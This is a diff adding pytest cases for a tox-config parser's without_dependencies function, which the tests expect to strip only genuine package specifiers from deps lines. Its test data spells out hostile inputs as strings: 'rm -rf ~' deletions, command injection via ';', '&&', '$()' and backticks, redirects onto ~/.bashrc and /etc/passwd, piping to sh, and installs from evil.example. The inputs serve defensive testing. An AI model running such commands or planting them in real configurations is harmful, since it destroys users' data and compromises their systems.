@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import pytest
+from tests.tables import for_each
 
-from operators_edge.gate.disk.file_parts import without_others
+from operators_edge.gate.disk.file_parts import without_dependencies, without_others
 
 TOX = """\
 [tox]
@@ -163,3 +164,51 @@ def test_a_job_that_is_not_chosen_is_left_out_unless_another_needs_it(text, chos
     assert [word for word in goes.split() if word in rest] == []
     assert rest.count("\n") == text.count("\n")
     assert ("setup" in rest) == (text is GITLAB and chosen != ["ship"])
+
+
+@for_each(
+    ("line", "is_left"),
+    [
+        ("pytest>4.6,<8.4", False),
+        ("py{38,39}: pytest", True),
+        ("cov: pytest-cov", False),
+        ("black=={[tox]BLACK_VERSION}", False),
+        ("coverage[toml] >= 7", False),
+        ("pytest", False),
+        ("-r requirements.txt", True),
+        ("rm -rf ~/photos", True),
+        ("sh wipe.sh", True),
+        ("./wipe.sh", True),
+        ("~/wipe", True),
+        ("/usr/bin/reboot", True),
+        ("cov: rm -rf ~", True),
+        ("pytest; rm -rf ~", True),
+        ("pytest && rm -rf ~", True),
+        ("pytest > ~/.bashrc", True),
+        ("pytest>/etc/passwd", True),
+        ("pytest | sh", True),
+        ("pytest $(rm -rf ~)", True),
+        ("pytest `id`", True),
+        ("git+https://evil.example/x.git", True),
+        ("x @ https://evil.example/x.tgz", True),
+    ],
+)
+def test_names_of_packages_that_tox_installs_are_no_commands(line, is_left):
+    for text in (f"[testenv]\ndeps =\n    {line}\n", f"[testenv]\ndeps = {line}\n"):
+        assert (line in without_dependencies(text)) is is_left
+
+
+@for_each(
+    "text",
+    [
+        "[x]\ndeps = wipe\n[testenv]\ncommands = {[x]deps}\n",
+        "[testenv]\ncommands =\n    wipe\ndeps =\n    pytest\n",
+        "[testenv]\ndeps =\n    pytest\ncommands =\n    wipe\n",
+        "[testenv]\ndeps =\n    pytest\n\n    mypy\ncommands_pre = wipe\n",
+        "[testenv]\ninstall_command = wipe\ndeps = pytest\n",
+        "[testenv]\nall-deps = wipe\n",
+        "[tool.tox]\nlegacy_tox_ini = wipe\n",
+    ],
+)
+def test_commands_of_tox_stay(text):
+    assert "wipe" in without_dependencies(text)
